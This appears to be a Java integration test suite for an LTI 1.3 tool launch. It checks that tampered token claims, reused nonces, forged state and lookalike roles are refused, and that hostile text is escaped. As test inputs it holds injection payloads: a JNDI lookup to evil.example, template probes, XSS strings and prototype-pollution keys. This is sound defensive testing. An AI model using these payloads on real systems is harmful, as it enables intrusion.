package fr.sillage.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.CyclicBarrier;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Tokens that the platform did sign, and that say what they should not (LTI Core 1.3 §5.3). */
class AClaimedLaunchIT {

    private static final String SUBJECT = "claimer-of-claims";
    private static final String LTI = OwnPlatform.LTI;
    private static final String MEMBERSHIP = "http://purl.imsglobal.org/vocab/lis/v2/membership#";

    private static House house;
    private static OwnPlatform platform;
    private static Rows rows;
    private static Door door;
    private static Door.Login login;

    @BeforeAll
    static void open() throws Exception {
        house = House.open();
        platform = OwnPlatform.open(house);
        rows = Rows.of(house);
        door = Door.of(house, platform);
        Awaiting.registration(door);
        Door.Login first = door.begin();
        assertThat(launch(first, claims -> {}).statusCode()).isEqualTo(303);
        login = door.begin();
    }

    @AfterAll
    static void close() throws Exception {
        rows.close();
        platform.close();
    }

    static Stream<Arguments> refused() {
        long now = Instant.now().getEpochSecond();
        return Stream.of(
                when("aud absent", 401, "audience-absent", all -> all.remove("aud")),
                when("aud a stranger", 401, "audience-other", all -> all.put("aud", "stranger")),
                when("aud an object", 401, "audience-other", all -> all.putObject("aud")
                        .put("a", OwnPlatform.CLIENT)),
                when(
                        "aud another client of ours",
                        401,
                        "audience-other",
                        all -> all.put("aud", OwnPlatform.OTHER_CLIENT)),
                when("aud strangers too", 401, "audience-stranger", all -> all.putArray("aud")
                        .add(OwnPlatform.CLIENT)
                        .add("x")),
                when("aud of two without azp", 401, "authorized-party-other", AClaimedLaunchIT::two),
                when("azp another", 401, "authorized-party-other", all -> all.put("azp", OwnPlatform.OTHER_CLIENT)),
                when("azp null", 401, "authorized-party-other", all -> all.putNull("azp")),
                when("iss with a slash", 401, "issuer-other", all -> all.put("iss", platform.issuer() + "/")),
                when("iss absent", 401, "issuer-absent", all -> all.remove("iss")),
                when(
                        "iss in capitals",
                        401,
                        "issuer-other",
                        all -> all.put("iss", platform.issuer().toUpperCase())),
                when("exp past", 401, "expired", all -> all.put("exp", now - 31)),
                when("exp absent", 401, "expiry-absent", all -> all.remove("exp")),
                when("exp a text", 401, "expiry-malformed", all -> all.put("exp", String.valueOf(now + 60))),
                when("exp 2^63", 401, "expiry-malformed", all -> all.put("exp", BigInteger.TWO.pow(63))),
                when("exp 1e400", 401, "expiry-malformed", all -> all.put("exp", new BigDecimal("1e400"))),
                when("exp negative", 401, "expiry-malformed", all -> all.put("exp", -1)),
                when("exp next week", 401, "expiry-far", all -> all.put("exp", now + 7 * 86_400)),
                when("iat in the future", 401, "issued-in-future", all -> all.put("iat", now + 300)),
                when("iat absent", 401, "issued-at-absent", all -> all.remove("iat")),
                when("iat an hour ago", 401, "issued-long-ago", all -> all.put("iat", now - 3_600)),
                when("nonce absent", 401, "nonce-absent", all -> all.remove("nonce")),
                when("nonce foreign", 401, "nonce-other", all -> all.put("nonce", "foreign")),
                when("nonce a list", 401, "nonce-other", all -> all.putArray("nonce")
                        .add(login.nonce())),
                when(
                        "deployment of another client",
                        403,
                        "deployment-unknown",
                        all -> all.put(LTI + "deployment_id", "own-2")),
                when("deployment absent", 400, "deployment-absent", all -> all.remove(LTI + "deployment_id")),
                when("message type unknown", 400, "message-type-unknown", all -> all.put(LTI + "message_type", "LtiX")),
                when("message type absent", 400, "message-type-absent", all -> all.remove(LTI + "message_type")),
                when("version a number", 400, "version-other", all -> all.put(LTI + "version", 1.3)),
                when("version 1.3", 400, "version-other", all -> all.put(LTI + "version", "1.3")),
                when("sub absent", 400, "subject-absent", all -> all.remove("sub")),
                when("sub empty", 400, "subject-absent", all -> all.put("sub", "")),
                when("sub with NUL", 400, "subject-malformed", all -> all.put("sub", "a\u0000b")),
                when("sub with a line break", 400, "subject-malformed", all -> all.put("sub", "a\r\nrefused b")),
                when("sub of 256 characters", 400, "subject-malformed", all -> all.put("sub", "s".repeat(256))),
                when("sub a number", 400, "subject-malformed", all -> all.put("sub", 42)),
                when("roles absent", 400, "roles-absent", all -> all.remove(LTI + "roles")),
                when("roles a text", 400, "roles-malformed", all -> all.put(LTI + "roles", MEMBERSHIP + "Instructor")),
                when("roles numbers", 400, "roles-malformed", all -> all.putArray(LTI + "roles")
                        .add(1)),
                when("no resource link", 400, "resource-link-absent", all -> all.remove(LTI + "resource_link")),
                when("link id with NUL", 400, "resource-link-malformed", all -> object(all, "resource_link")
                        .put("id", "\u0000")),
                when("course id too long", 400, "context-malformed", all -> object(all, "context")
                        .put("id", "c".repeat(256))),
                when("course id a list", 400, "context-malformed", all -> object(all, "context")
                        .putArray("id")),
                when(
                        "another target",
                        400,
                        "target-other",
                        all -> all.put(LTI + "target_link_uri", "https://evil.example")),
                when("a script to return to", 400, "return-url-refused", AClaimedLaunchIT::deepLinking));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void refused(String what, int status, String reason, Consumer<ObjectNode> change) throws Exception {
        ObjectNode claims = platform.claims(login, door.target(), SUBJECT);
        change.accept(claims);
        String token = platform.signed(claims);
        Watch watch = Watch.over(house, platform, rows);
        watch.refused(door.launch(login, token), status, reason, SUBJECT, token.split("\\.")[1]);
    }

    @Test
    void passesOnce() throws Exception {
        Door.Login begun = door.begin();
        String token = platform.honest(begun, door.target(), SUBJECT);
        assertThat(door.launch(begun, token).statusCode()).isEqualTo(303);
        Watch watch = Watch.over(house, platform, rows);
        watch.refused(door.launch(begun, token), 401, "nonce-reused", SUBJECT, token.split("\\.")[1]);
        Watch anotherToken = Watch.over(house, platform, rows);
        anotherToken.refused(
                door.launch(begun, platform.honest(begun, door.target(), "another")), 401, "nonce-reused", SUBJECT);
    }

    @Test
    void passesOnceOfFiftyTimesAtTheSameMoment() throws Exception {
        Door.Login begun = door.begin();
        String token = platform.honest(begun, door.target(), "fifty-times");
        Map<String, Long> before = rows.written();
        long refusals = rows.lastRefusal();
        CyclicBarrier together = new CyclicBarrier(50);
        ExecutorService crowd = Executors.newFixedThreadPool(50);
        List<Callable<HttpResponse<String>>> launches = new ArrayList<>();
        for (int one = 0; one < 50; one++) {
            launches.add(() -> {
                together.await();
                return door.launch(begun, token);
            });
        }
        List<Integer> answers = new ArrayList<>();
        int cookies = 0;
        for (Future<HttpResponse<String>> answer : crowd.invokeAll(launches)) {
            answers.add(answer.get().statusCode());
            if (answer.get().headers().firstValue("Set-Cookie").isPresent()) cookies++;
        }
        crowd.shutdown();

        assertThat(answers).filteredOn(status -> status == 303).hasSize(1);
        assertThat(answers).filteredOn(status -> status == 401).hasSize(49);
        assertThat(cookies).isEqualTo(1);
        assertThat(rows.refusalsAfter(refusals)).hasSize(49).allMatch(row -> row.startsWith("nonce-reused "));
        Map<String, Long> after = rows.written();
        for (String table : List.of("core.seat", "core.person", "core.identity", "lti.nonce")) {
            assertThat(after.get(table)).as(table).isEqualTo(before.get(table) + 1);
        }
    }

    @Test
    void belongsToTheBrowserThatBegan() throws Exception {
        Door.Login begun = door.begin();
        Door.Login elsewhere = door.begin();
        String token = platform.honest(begun, door.target(), SUBJECT);
        String form = Door.form(Map.of("state", begun.state(), "id_token", token));
        String name = begun.cookie().replaceAll("=.*", "");
        String theirs = elsewhere.cookie().replaceAll(".*=", "");
        for (String cookie : List.of("a=b", elsewhere.cookie(), name + "=", name + "=" + theirs)) {
            Watch watch = Watch.over(house, platform, rows);
            watch.refused(door.launch(cookie, form), 403, "other-browser", SUBJECT);
        }
        assertThat(door.launch(begun.cookie(), form).statusCode()).isEqualTo(303);
    }

    @Test
    void hasAStateThatWeMade() throws Exception {
        Door.Login begun = door.begin();
        String token = platform.honest(begun, door.target(), SUBJECT);
        String[] parts = begun.state().split("\\.");
        String other = door.begin().state().split("\\.")[0];
        for (String state : List.of(
                parts[0], parts[0] + ".", parts[0] + ".AAAA", other + "." + parts[1], ".", "x".repeat(30_000))) {
            Watch watch = Watch.over(house, platform, rows);
            String form = Door.form(Map.of("state", state, "id_token", token));
            watch.refused(door.launch(begun.cookie(), form), 400, "state-forged", SUBJECT);
        }
        Watch none = Watch.over(house, platform, rows);
        none.refused(door.launch(begun.cookie(), "id_token=" + token), 400, "state-absent", SUBJECT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "http://purl.imsglobal.org/vocab/lis/v2/membership#instructor",
                "http://purl.imsglobal.org/vocab/lis/v2/membership#Instructor ",
                "http://purl.imsglobal.org/vocab/lis/v2/membership#Instructor#",
                "https://purl.imsglobal.org/vocab/lis/v2/membership#Instructor",
                "http://purl.imsglobal.org.evil.example/vocab/lis/v2/membership#Instructor",
                "http://purl.imsglobal.org/vocab/lis/v2/institution/person#Instructor",
                "http://purl.imsglobal.org/vocab/lis/v2/institution/person#Administrator",
                "urn:lti:role:ims/lis/Instructor",
                "\u0406nstructor",
                "constructor",
                "__proto__"
            })
    void givesNothingToARoleThatLooksAlike(String role) {
        Guest guest = Guest.enter(
                platform, door, claims -> claims.putArray(LTI + "roles").add(role));
        for (String page : List.of("exercises", "exercises/imports", "paths", "drafts/new", "inspection")) {
            assertThat(guest.get(page).statusCode()).as(page).isEqualTo(404);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://evil.example/a}",
                "#{7*7}",
                "${7*7}",
                "__proto__",
                "{0}",
                "<svg onload=alert(1)>",
                "$Context.title"
            })
    void takesWhateverItIsToldForText(String value) {
        Guest guest = Guest.enter(platform, door, claims -> {
            object(claims, "context").put("id", "text-" + value.hashCode()).put("title", value);
            object(claims, "custom").put("uai", value).put("__proto__", value).put(value, value);
            claims.put("name", value).put("given_name", value).put("locale", value);
            claims.putObject(LTI + "launch_presentation")
                    .put("return_url", "javascript:alert(1)")
                    .put("css_url", value);
        });
        HttpResponse<String> page = guest.get("tasks");
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(Door.bytes(page))
                .contains(value.replace("<", "&lt;").replace(">", "&gt;"))
                .doesNotContain("<svg onload", "javascript:");
    }

    @Test
    void showsNoName() {
        String name = "<img src=x onerror=alert(1)>" + "n".repeat(10_000);
        Guest guest = Guest.enter(platform, door, claims -> {
            claims.put("name", name).put("family_name", name).put("email", "someone@example.org");
            object(claims, "context").put("id", "long-title").put("title", "t".repeat(10_000));
        });
        HttpResponse<String> page = guest.get("tasks");
        assertThat(page.statusCode()).isEqualTo(200);
        assertThat(Door.bytes(page)).doesNotContain("onerror", "nnnnn", "someone@", "t".repeat(201));
    }

    @Test
    void opensTwoCoursesOnTwoPlatformsThatCallThemTheSame() throws Exception {
        try (OwnPlatform other = OwnPlatform.open(house)) {
            Door there = Door.of(house, other);
            Awaiting.registration(there);
            String id = "same-" + platform.issuer();
            Consumer<ObjectNode> three = claims -> object(claims, "context").put("id", id);
            Guest.enter(platform, door, three);
            Guest.enter(other, there, three);
            assertThat(rows.texts("select distinct platform from core.course where context_id = '" + id + "'"))
                    .hasSize(2);
            assertThat(rows.texts("select distinct person from core.membership m join core.course c on c.id = m.course"
                            + " where c.context_id = '" + id + "'"))
                    .hasSize(2);
        }
    }

    private static HttpResponse<String> launch(Door.Login begun, Consumer<ObjectNode> change) {
        ObjectNode claims = platform.claims(begun, door.target(), SUBJECT);
        change.accept(claims);
        return door.launch(begun, platform.signed(claims));
    }

    private static Arguments when(String what, int status, String reason, Consumer<ObjectNode> change) {
        return arguments(what, status, reason, change);
    }

    private static ObjectNode object(ObjectNode claims, String name) {
        return (ObjectNode) claims.get(LTI + name);
    }

    private static void two(ObjectNode claims) {
        claims.putArray("aud").add(OwnPlatform.CLIENT).add(OwnPlatform.OTHER_CLIENT);
    }

    private static void deepLinking(ObjectNode claims) {
        claims.put(LTI + "message_type", "LtiDeepLinkingRequest");
        ObjectNode settings = claims.putObject("https://purl.imsglobal.org/spec/lti-dl/claim/deep_linking_settings");
        settings.putArray("accept_types").add("ltiResourceLink");
        settings.putArray("accept_presentation_document_targets").add("iframe");
        settings.put("deep_link_return_url", "javascript:alert(1)");
    }
}
